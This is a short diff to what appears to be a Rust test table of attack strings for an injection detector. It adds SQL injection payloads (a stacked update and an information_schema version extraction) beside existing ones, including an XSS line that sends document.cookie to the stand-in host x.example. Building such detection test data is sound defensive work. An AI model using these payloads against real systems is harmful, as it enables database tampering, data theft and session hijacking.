@@ -72,6 +72,8 @@ const ATTACKS: &[(Category, Source, &str)] = &[
     (Category::Sqli, Source::User, "q=AND 4711=("),
     (Category::Sqli, Source::User, "tbl=INFORMATION_SCHEMA"),
     (Category::Sqli, Source::User, "user[$ne]=nobody"),
+    (Category::Sqli, Source::User, "sort=;update accounts"),
+    (Category::Sqli, Source::User, "t=from (select count(*), concat(version(), 0x3a) from `information_schema`.tables)"),
     (Category::Sqli, Source::User, "id=1\u{2019} OR \u{2019}1\u{2019}=\u{2019}1"),
     // script injection
     (Category::Xss, Source::User, "<script>fetch('//x.example/'+document.cookie)</script>"),
